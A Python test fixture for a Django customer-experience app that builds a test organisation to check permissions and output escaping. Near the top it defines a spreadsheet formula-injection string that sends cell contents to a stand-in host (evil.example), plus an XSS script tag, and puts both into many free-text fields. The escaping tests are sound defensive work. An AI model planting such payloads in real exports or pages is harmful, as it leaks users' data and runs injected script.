"""One small organisation with something of every kind, built from the apps' own factories.

Everything department-owned belongs to department B ("Billing"), so the head of department A
and the contributor (in A) are the people who must be refused when they try to change it, and
the head of B is the owning head. Free text carries hostile content — a spreadsheet formula
and an HTML script tag — so every page and CSV export that shows it is tested for escaping.
"""

from dataclasses import dataclass
from datetime import timedelta
from typing import Any

from django.utils import timezone

from cco.models import Department, Role, User
from tests.factories import UserFactory

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
SCRIPT = '<script>alert("xss")</script>'
HOSTILE = f"{FORMULA} {SCRIPT}"


@dataclass
class World:
    department_a: Department
    department_b: Department
    people: dict[str, User | None]
    objects: dict[str, Any]

    def get(self, name: str) -> Any:
        return self.objects[name]


def build_world(
    *,
    department_a: Department,
    department_b: Department,
    cco: User,
    executive: User,
    head_a: User,
    head_b: User,
    contributor: User,
    outsider: User,
) -> World:
    from accountability import services as accountability
    from metrics.models import Metric
    from metrics.services import rollup_rebuild
    from roadmap import services as roadmap
    from tests.accountability.factories import (
        ActionItemFactory,
        BreachFactory,
        CXIssueFactory,
        MeetingFactory,
        MeetingSeriesFactory,
    )
    from tests.metrics.factories import (
        KPIFactory,
        KPIObservationFactory,
        SurveyResponseFactory,
        TouchpointFactory,
    )
    from tests.roadmap.factories import (
        DependencyFactory,
        ExpectedResultFactory,
        InitiativeFactory,
        MilestoneFactory,
    )

    contributor_b = UserFactory(
        username="contributor-b", role=Role.CONTRIBUTOR, department=department_b
    )
    touchpoint = TouchpointFactory(
        name=f"Invoice query {SCRIPT}", slug="invoice-query", department=department_b
    )
    response = SurveyResponseFactory(
        touchpoint=touchpoint, metric=Metric.NPS, score=2, comment=HOSTILE
    )
    kpi = KPIFactory(department=department_b, name=f"First-contact resolution {SCRIPT}")
    observation = KPIObservationFactory(kpi=kpi)
    initiative = InitiativeFactory(title=HOSTILE, department=department_b)
    other_initiative = InitiativeFactory(department=department_b, pillar=initiative.pillar)
    # Free to become a new dependency of `initiative` without making a cycle.
    spare_initiative = InitiativeFactory(department=department_b, pillar=initiative.pillar)
    milestone = MilestoneFactory(initiative=initiative, title=HOSTILE)
    dependency = DependencyFactory(initiative=initiative, depends_on=other_initiative)
    expected = ExpectedResultFactory(initiative=initiative)
    series = MeetingSeriesFactory(chair=cco)
    meeting = MeetingFactory(series=series, scheduled_at=timezone.now() + timedelta(days=1))
    # Still scheduled, so opening it changes something (re-opening `meeting` may not).
    next_meeting = MeetingFactory(series=series, scheduled_at=timezone.now() + timedelta(days=8))
    breach = BreachFactory(touchpoint=touchpoint)
    issue = CXIssueFactory(title=HOSTILE, department=department_b)
    item = ActionItemFactory(
        title=HOSTILE, description=HOSTILE, department=department_b, owner_person=contributor_b
    )
    accountability.action_item_update(
        item_id=item.pk, actor=head_b, expected_version=item.version, note=HOSTILE
    )
    item.refresh_from_db()
    # Opened: attendance rows exist and the agenda is built (the breach becomes a CX issue).
    accountability.meeting_open(meeting_id=meeting.pk, actor=cco)
    agenda_item = accountability.agenda_item_add(
        meeting_id=meeting.pk, actor=cco, title=HOSTILE, department=department_b
    )
    decision = accountability.decision_record(
        meeting_id=meeting.pk, actor=cco, text=HOSTILE, agenda_item_id=agenda_item.pk
    )
    roadmap.initiative_update(
        actor=head_b, initiative=initiative, changes={"progress": 40}, note=HOSTILE
    )
    rollup_rebuild(detect=False)
    followup_case = _followup_case(touchpoint)
    webhook_source, webhook_question = _webhook_source(touchpoint)
    objects: dict[str, Any] = {
        "touchpoint": touchpoint,
        "response": response,
        "kpi": kpi,
        "kpi_observation": observation,
        "initiative": initiative,
        "spare_initiative": spare_initiative,
        "milestone": milestone,
        "dependency": dependency,
        "expected_result": expected,
        "roadmap": initiative.pillar.roadmap,
        "pillar": initiative.pillar,
        "series": series,
        "meeting": meeting,
        "next_meeting": next_meeting,
        "breach": breach,
        "cx_issue": issue,
        "action_item": item,
        "agenda_item": agenda_item,
        "decision": decision,
        "followup_case": followup_case,
        "contributor_b": contributor_b,
        "webhook_source": webhook_source,
        "webhook_question": webhook_question,
        "pulse_round": _pulse_round(cco),
        "blocker": _blocker(contributor_b, department_b),
        "resolved_blocker": _blocker(contributor_b, department_b, resolved_by=cco),
        **_change_note_sources(cco, initiative.pillar, touchpoint),
        "compliment": _compliment(touchpoint, cco),
    }
    return World(
        department_a=department_a,
        department_b=department_b,
        people={
            "anonymous": None,
            "outsider": outsider,
            "contributor": contributor,
            "head_a": head_a,
            "head_b": head_b,
            "executive": executive,
            "cco": cco,
        },
        objects=objects,
    )


def _compliment(touchpoint: Any, cco: Any) -> Any:
    """A compliment for department B, flagged from a praising verbatim, routed to no one yet."""
    from accountability.services.compliments import compliment_flag
    from tests.metrics.factories import SurveyResponseFactory

    praise = SurveyResponseFactory(touchpoint=touchpoint, score=10, comment=HOSTILE)
    return compliment_flag(actor=cco, response_id=praise.pk)


def _followup_case(touchpoint: Any) -> Any:
    """An open follow-up case of department B, opened from a low score as the product does."""
    from accountability.services.followups import followup_cases_open
    from metrics.models import Metric
    from tests.metrics.factories import SurveyResponseFactory

    SurveyResponseFactory(touchpoint=touchpoint, metric=Metric.NPS, score=1, customer_id="C-42")
    followup_cases_open()
    return touchpoint.followup_cases.get()


def _pulse_round(cco: Any) -> Any:
    """An open pulse round for every department, with one 1–5 item."""
    from django.utils import timezone

    from accountability.services.pulse import round_create

    today = timezone.localdate()
    return round_create(
        title="Autumn pulse", department=None, opens_on=today, closes_on=today,
        items=["I have the tools to solve the customer's problem"], min_group=5, created_by=cco,
    )  # fmt: skip


def _blocker(raiser: Any, department: Any, resolved_by: Any = None) -> Any:
    """A blocker against department B, raised by one of its people (resolved when asked)."""
    from accountability.services.blockers import blocker_answer, blocker_raise

    blocker = blocker_raise(actor=raiser, title=HOSTILE, department_id=department.pk)
    if resolved_by is not None:
        blocker_answer(actor=resolved_by, blocker=blocker, answer="Approved", resolve=True)
    return blocker


def _webhook_source(touchpoint: Any) -> tuple[Any, Any]:
    from metrics.models import WebhookQuestion
    from metrics.services.webhooks import webhook_source_create

    source, _ = webhook_source_create(slug="survey-tool", name=HOSTILE, shape="formbricks")
    question = WebhookQuestion.objects.create(
        source=source, question_id="q-nps", role="nps", touchpoint=touchpoint
    )
    return source, question


def _change_note_sources(cco: Any, pillar: Any, touchpoint: Any) -> dict[str, Any]:
    """Department B's resolved CX issue and delivered initiative, and a note published on each."""
    from accountability.services.notes import change_note_publish
    from tests.accountability.factories import CXIssueFactory
    from tests.roadmap.factories import InitiativeFactory

    department = touchpoint.department
    issue = CXIssueFactory(
        title=HOSTILE, department=department, touchpoint=touchpoint, status="resolved",
        root_cause="Evenings short-staffed", remediation_plan="Night shift",
        resolved_at=timezone.now(),
    )  # fmt: skip
    initiative = InitiativeFactory(
        pillar=pillar, department=department, status="done", driver=touchpoint
    )
    note = change_note_publish(
        actor=cco, cx_issue_id=issue.pk, title=HOSTILE, you_said=HOSTILE, we_did=HOSTILE
    )
    return {"resolved_issue": issue, "done_initiative": initiative, "change_note": note}
